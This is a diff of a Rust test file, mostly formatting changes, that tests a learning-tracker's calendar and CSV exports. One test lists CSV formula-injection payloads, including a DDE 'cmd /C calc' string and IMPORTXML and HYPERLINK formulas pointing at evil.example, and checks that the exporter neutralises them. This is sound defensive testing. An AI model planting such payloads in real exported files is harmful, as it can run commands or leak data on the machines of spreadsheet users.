@@ -4,12 +4,7 @@ use std::{collections::BTreeSet, process::Command};
 
 use chrono::{DateTime, Utc};
 use mastery::{
-    domain::{
-        day::LogicalDay,
-        progress::Progress,
-        roadmap::Roadmap,
-        state::State,
-    },
+    domain::{day::LogicalDay, progress::Progress, roadmap::Roadmap, state::State},
     export::{Source, calendar::calendar},
     store::roadmap_file::{Notes, Place, read_roadmap},
     text::sanitise,
@@ -36,7 +31,11 @@ fn exported(home: &Home, args: &[&str]) -> String {
         .env("MASTERY_NOW", NOW)
         .output()
         .unwrap();
-    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
     String::from_utf8(output.stdout).unwrap()
 }
 
@@ -66,12 +65,17 @@ fn read(text: &str) -> Result<Read, String> {
             return Err(format!("a control: {line:?}"));
         }
         match line.strip_prefix([' ', '\t']) {
-            Some(more) => lines.last_mut().ok_or("a fold at the start")?.push_str(more),
+            Some(more) => lines
+                .last_mut()
+                .ok_or("a fold at the start")?
+                .push_str(more),
             None => lines.push(line.to_owned()),
         }
     }
     for line in lines {
-        let (name, value) = line.split_once(':').ok_or_else(|| format!("no property: {line}"))?;
+        let (name, value) = line
+            .split_once(':')
+            .ok_or_else(|| format!("no property: {line}"))?;
         it.events += usize::from(line == "BEGIN:VEVENT");
         it.names.push(name.to_owned());
         let mut plain = String::new();
@@ -93,7 +97,10 @@ fn read(text: &str) -> Result<Read, String> {
     let events = other.components.iter().filter(|it| it.name == "VEVENT");
     let events = events.count();
     if events != it.events || other.components.len() != events {
-        return Err(format!("{events} events to one reader, {} to another", it.events));
+        return Err(format!(
+            "{events} events to one reader, {} to another",
+            it.events
+        ));
     }
     Ok(it)
 }
@@ -107,7 +114,10 @@ fn squeezed(text: &str) -> String {
 
 #[test]
 fn no_text_adds_an_event_or_a_property_or_comes_back_changed() {
-    let texts: Vec<String> = texts("calendar.txt").into_iter().map(|it| it.text).collect();
+    let texts: Vec<String> = texts("calendar.txt")
+        .into_iter()
+        .map(|it| it.text)
+        .collect();
     let plain = Poison::new(vec!["word".to_owned(); texts.len()], 0);
     let (mut whole, mut events, mut seen, mut fields) = (0, 0, BTreeSet::new(), BTreeSet::new());
     let (rounds, least) = (rounds(14, 93), rounds(60, 90));
@@ -290,17 +300,53 @@ fn any_text_gives_the_same_events() {
         .unwrap();
     report(
         "T20 any text",
-        &format!("{cases} texts, each in every field: {} events each, the text comes back", good.events),
+        &format!(
+            "{cases} texts, each in every field: {} events each, the text comes back",
+            good.events
+        ),
     );
 }
 
 #[test]
 fn no_text_is_a_formula_or_a_row_of_its_own() {
     let mut all: Vec<String> = [
-        "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\",\"x\")",
-        "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "－1", "＠x", "\u{feff}=1", "\u{200b}=1", "\u{0}=1", "\u{202e}=1",
-        "%0A=1", "\"=1", "\"\r\n=1", "a,b", "a;b", "a\tb", "\"", "\"\"", "a\"b", "a\r\nb", "a\nb", "a\rb", "|x", "=",
-        "DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"https://evil.example\";\"//a\")", "'=1", "''", "\u{1b}=1",
+        "=cmd|' /C calc'!A0",
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "=HYPERLINK(\"https://evil.example\",\"x\")",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        " =1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠x",
+        "\u{feff}=1",
+        "\u{200b}=1",
+        "\u{0}=1",
+        "\u{202e}=1",
+        "%0A=1",
+        "\"=1",
+        "\"\r\n=1",
+        "a,b",
+        "a;b",
+        "a\tb",
+        "\"",
+        "\"\"",
+        "a\"b",
+        "a\r\nb",
+        "a\nb",
+        "a\rb",
+        "|x",
+        "=",
+        "DDE(\"cmd\";\"/C calc\";\"x\")",
+        "=IMPORTXML(\"https://evil.example\";\"//a\")",
+        "'=1",
+        "''",
+        "\u{1b}=1",
     ]
     .map(str::to_owned)
     .into();
@@ -312,7 +358,9 @@ fn no_text_is_a_formula_or_a_row_of_its_own() {
     let mut roadmap = crate::pty::GARDEN.to_owned();
     for (n, text) in all.iter().enumerate() {
         let title = bare(text, n);
-        roadmap += &format!("[[phase.reading]]\nid = \"x{n}\"\nkind = \"book\"\ntitle = {title}\nauthor = {title}\n");
+        roadmap += &format!(
+            "[[phase.reading]]\nid = \"x{n}\"\nkind = \"book\"\ntitle = {title}\nauthor = {title}\n"
+        );
     }
     roadmap += "[budget]\ncurrency = \"EUR\"\n[[budget.time]]\nid = \"learning\"\ntitle = \"L\"\nhours = 5\n\
                 [[budget.money]]\nid = \"m\"\ntitle = \"M\"\namount = \"9.90\"\nevery = \"month\"\n";
@@ -323,22 +371,43 @@ fn no_text_is_a_formula_or_a_row_of_its_own() {
         use world::Value::{Number, Text};
         let text = || Text(format!("{text}qa{n:03}"));
         let learning = Text("learning".to_owned());
-        scribe.event("session", vec![("category", learning), ("minutes", Number(5)), ("text", text())]);
-        scribe.event("session", vec![("category", text()), ("minutes", Number(5))]);
+        scribe.event(
+            "session",
+            vec![
+                ("category", learning),
+                ("minutes", Number(5)),
+                ("text", text()),
+            ],
+        );
+        scribe.event(
+            "session",
+            vec![("category", text()), ("minutes", Number(5))],
+        );
         let amount = || ("amount", Text("-1.10".to_owned()));
-        scribe.event("spent", vec![amount(), ("line", Text("m".to_owned())), ("text", text())]);
+        scribe.event(
+            "spent",
+            vec![amount(), ("line", Text("m".to_owned())), ("text", text())],
+        );
         scribe.event("spent", vec![amount(), ("line", text())]);
         scribe.event("done", vec![("item", text())]);
     }
     std::fs::create_dir_all(home.data.join("garden")).unwrap();
     home.write("journal", &scribe.out);
-    std::fs::rename(home.path().join("journal"), home.data.join("garden/other.toml")).unwrap();
+    std::fs::rename(
+        home.path().join("journal"),
+        home.data.join("garden/other.toml"),
+    )
+    .unwrap();
     let danger = |cell: &str| {
         let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
         bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
     };
     let figure = |cell: &str| cell.parse::<f64>().is_ok();
-    for (table, least) in [("items", all.len() * 2), ("sessions", all.len() * 2), ("spending", all.len() * 2)] {
+    for (table, least) in [
+        ("items", all.len() * 2),
+        ("sessions", all.len() * 2),
+        ("spending", all.len() * 2),
+    ] {
         let text = exported(&home, &["csv", table]);
         let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
         let width = reader.headers().unwrap().len();
@@ -351,11 +420,18 @@ fn no_text_is_a_formula_or_a_row_of_its_own() {
                 cells += 1;
                 assert!(!danger(cell) || figure(cell), "{table}: {cell:?}");
                 formulas += usize::from(cell.starts_with('\'') && danger(&cell[1..]));
-                assert!(!cell.contains(|c: char| c.is_control() && c != '\n'), "{table}: {cell:?}");
+                assert!(
+                    !cell.contains(|c: char| c.is_control() && c != '\n'),
+                    "{table}: {cell:?}"
+                );
                 seen.extend(marks(cell));
             }
         }
-        assert!(here >= least && seen.len() == all.len(), "{table}: {here} rows, {} texts", seen.len());
+        assert!(
+            here >= least && seen.len() == all.len(),
+            "{table}: {here} rows, {} texts",
+            seen.len()
+        );
         rows += here;
     }
     // The control: the same cells as they were.
